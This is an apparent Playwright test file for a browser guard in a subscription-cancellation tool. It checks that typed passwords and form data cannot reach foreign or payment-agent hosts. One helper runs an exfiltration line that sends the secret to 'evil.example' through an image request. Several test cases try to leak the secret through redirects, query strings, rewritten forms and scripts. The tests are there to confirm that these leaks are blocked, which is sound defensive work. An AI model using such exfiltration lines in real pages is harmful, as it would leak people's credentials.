"""How long a typed secret is held, and who may be passed through: nobody gets it who isn't the site itself."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page

from autocancel.browser.boundary import MAX_HOPS, Stop
from autocancel.browser.launch import OpenBrowser

from .sites import AGENT, FLOW_HOST, Answer, Web, page, redirect

START = f"https://{FLOW_HOST}/start"
SECRET = "demo-Password-7731"
LOGIN = "<form method=post action=/login><input id=p type=password name=p><button>ログイン</button></form>"
BACK = (
    f"<form method=post action=https://{FLOW_HOST}/back><input name=r value=1></form>"
    "<script>document.forms[0].submit()</script>"
)


@contextmanager
def typing(window: Page, opened: OpenBrowser) -> Iterator[None]:
    """A step that types the secret, as the walk does it."""
    boundary = opened.boundary
    boundary.hold_secrets()
    field = window.query_selector("#p")
    assert field is not None
    boundary.note_typed(window, field, lambda address: SECRET in address)
    field.fill(SECRET)
    try:
        yield
    finally:
        boundary.release_secrets()


def stolen(window: Page, opened: OpenBrowser) -> int:
    """How many pictures a page could ask another host for, just now."""
    before = len(opened.boundary.blocked)
    with window.expect_event("requestfailed"):
        window.evaluate("secret => { new Image().src = 'https://evil.example/?' + secret }", SECRET)
    return 1 - (len(opened.boundary.blocked) - before)


@pytest.mark.parametrize(
    "script",
    [
        "void 0",
        "alert('送信します')",
        "history.pushState(0, '', '/other')",
        "location.hash = 'x'",
        "document.querySelector('#p').remove()",
        "document.body.append(document.createElement('iframe'))",
        "{ document.open(); document.write('<h1>x</h1>'); document.close() }",
        "document.querySelector('form').replaceWith('ログイン中です')",
    ],
)
def test_the_hold_lasts_as_long_as_the_page_that_was_told(
    window: Page, web: Web, opened: OpenBrowser, script: str
) -> None:
    """Whatever the page does meanwhile: the end of the step isn't the end of the page."""
    web["/start"] = page(LOGIN)
    window.goto(START)
    with typing(window, opened):
        window.evaluate(f"() => {{ {script} }}")
    assert opened.boundary.holds_secrets
    assert stolen(window, opened) == 0
    window.goto(f"https://{FLOW_HOST}/next")
    assert not opened.boundary.holds_secrets


def test_the_hold_ends_with_the_next_document(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page(LOGIN)
    window.goto(START)
    with typing(window, opened), window.expect_navigation():
        window.click("button")
    assert not opened.boundary.holds_secrets


def test_the_hold_ends_where_the_field_is_empty_again(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page(LOGIN)
    window.goto(START)
    with typing(window, opened):
        window.fill("#p", "")
    assert not opened.boundary.holds_secrets


def test_a_frame_that_changes_does_not_end_the_hold(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page(LOGIN + "<iframe src=/a></iframe>")
    window.goto(START)
    with typing(window, opened), window.expect_event("framenavigated"):
        window.evaluate("document.querySelector('iframe').src = '/b'")
    assert opened.boundary.holds_secrets


def test_the_hold_ends_with_the_window(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page(LOGIN)
    window.goto(START)
    with typing(window, opened):
        pass
    window.close()
    assert not opened.boundary.holds_secrets


# --- payment agents -----------------------------------------------------------------------------------------------


def _press(window: Page, opened: OpenBrowser, path: str = "/go") -> None:
    opened.boundary.expect_a_press()
    window.click(f"a[href='{path}']")


def test_a_page_may_pass_through_a_payment_agent_after_a_press(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page("<a href=/go>解約する</a>")
    web["/go"] = redirect(f"https://{AGENT}/in")
    web.answers[AGENT, "/in"] = redirect(f"https://{AGENT}/form")
    web.answers[AGENT, "/form"] = page(BACK + "<img src=/a.png>")
    window.goto(START)
    with window.expect_navigation(url="**/back"):
        _press(window, opened)
    assert opened.boundary.blocked == []
    window.wait_for_load_state()
    assert opened.boundary.reach.passing is None
    asked = len([seen for seen in web.seen if seen.host == AGENT])
    window.evaluate("u => fetch(u, {mode: 'no-cors'}).catch(() => 0)", f"https://{AGENT}/later")
    assert len([seen for seen in web.seen if seen.host == AGENT]) == asked, (
        "it was open only while it was passed through"
    )


def test_an_agent_is_not_reached_without_a_press(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = redirect(f"https://{AGENT}/in")
    with pytest.raises(PlaywrightError, match="ERR_BLOCKED_BY_CLIENT"):
        window.goto(START)
    assert opened.boundary.stopped is not None
    assert AGENT not in web.hosts()


def test_an_agent_that_sends_on_without_end_is_left(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page("<a href=/go>解約する</a>")
    web.answers.update({(AGENT, f"/in{n}"): redirect(f"https://{AGENT}/in{n + 1}") for n in range(20)})
    web["/go"] = redirect(f"https://{AGENT}/in0")
    window.goto(START)
    with window.context.expect_event("requestfailed"):
        _press(window, opened)
    assert len([seen for seen in web.seen if seen.host == AGENT]) == MAX_HOPS
    assert opened.boundary.stopped is not None


@pytest.mark.parametrize(
    "html",
    [
        f"<iframe src=https://{AGENT}/x></iframe>",
        f"<img src=https://{AGENT}/x>",
        f"<script>fetch('https://{AGENT}/x', {{method: 'POST', mode: 'no-cors', body: 'x'}})</script>",
        f"<script>new WebSocket('wss://{AGENT}/x')</script>",
    ],
)
def test_an_agent_is_passed_through_by_the_window_alone(window: Page, web: Web, opened: OpenBrowser, html: str) -> None:
    web["/start"] = page("<a href=/go>進む</a>")
    web["/go"] = page(html)
    window.goto(START)
    with window.expect_navigation():
        _press(window, opened)
    window.wait_for_load_state()
    assert AGENT not in web.hosts()


def test_a_signed_in_person_is_sent_on_through_an_agent(window: Page, web: Web, opened: OpenBrowser) -> None:
    """The login went to the site, which answers with an address: no form goes along."""
    web["/start"] = page(LOGIN)
    web["/login"] = redirect(f"https://{AGENT}/in")
    web.answers[AGENT, "/in"] = page(BACK)
    window.goto(START)
    with typing(window, opened), window.expect_navigation(url="**/back"):
        opened.boundary.expect_a_press()
        window.click("button")
    assert [(seen.method, seen.body) for seen in web.seen if seen.host == AGENT] == [("GET", b"")]
    assert not opened.boundary.holds_secrets


@pytest.mark.parametrize(
    ("answer", "script"),
    [
        (redirect(f"https://{AGENT}/in", 307), "document.forms[0].submit()"),
        (redirect(f"https://{AGENT}/in", 308), "document.forms[0].submit()"),
        (redirect(f"https://{AGENT}/in?p={SECRET}", 302), "document.forms[0].submit()"),
        (Answer(), f"location = 'https://{AGENT}/in'"),
        (Answer(), f"{{ const f = document.forms[0]; f.action = 'https://{AGENT}/in'; f.submit() }}"),
        (Answer(), f"{{ const f = document.forms[0]; f.action = 'https://{AGENT}/in'; f.method = 'get'; f.submit() }}"),
        (Answer(), f"{{ new Image().src = 'https://{AGENT}/in'; location = 'https://{AGENT}/in' }}"),
    ],
    ids=["307", "308", "in the address", "by script", "form", "get form", "picture"],
)
def test_no_agent_is_told_a_secret(window: Page, web: Web, opened: OpenBrowser, answer: Answer, script: str) -> None:
    web["/start"] = page(LOGIN)
    web["/login"] = answer
    window.goto(START)
    with typing(window, opened), window.context.expect_event("requestfailed"):
        opened.boundary.expect_a_press()
        window.evaluate(f"() => {{ {script} }}")
    assert AGENT not in web.hosts()
    assert Stop.FOREIGN_HOST in {blocked.reason for blocked in opened.boundary.blocked}


def test_a_redirected_form_is_not_sent_on_to_an_agent(window: Page, web: Web, opened: OpenBrowser) -> None:
    """No secret is typed, but what a person filled in is nobody else's."""
    web["/start"] = page("<form method=post action=/go><input name=q value=1></form>")
    web["/go"] = redirect(f"https://{AGENT}/in", 307)
    window.goto(START)
    opened.boundary.expect_a_press()
    with window.context.expect_event("requestfailed"):
        window.evaluate("document.forms[0].submit()")
    assert AGENT not in web.hosts()


def test_another_carriers_host_is_not_reached_at_all(window: Page, web: Web, opened: OpenBrowser) -> None:
    """The payment is another one's: a login that is sent on there arrives nowhere."""
    web["/start"] = page(LOGIN)
    web["/login"] = redirect("https://id.smt.docomo.ne.jp/login", 307)
    window.goto(START)
    with typing(window, opened), window.context.expect_event("requestfailed"):
        opened.boundary.expect_a_press()
        window.click("button")
    assert web.hosts() == {FLOW_HOST}
    stopped = opened.boundary.stopped
    assert stopped is not None
    assert (stopped.host, stopped.method) == ("id.smt.docomo.ne.jp", "POST")
